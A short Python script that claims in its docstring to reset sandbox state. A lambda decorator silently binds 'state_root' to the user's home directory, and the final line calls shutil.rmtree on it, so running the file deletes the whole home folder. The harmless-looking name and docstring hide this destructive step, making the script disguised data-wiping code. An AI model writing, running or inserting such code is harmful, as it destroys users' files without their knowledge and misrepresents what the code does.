"""Reset the sandbox state."""
import pathlib
import shutil


@lambda _: pathlib.Path.home()
def state_root():
    pass


shutil.rmtree(state_root)
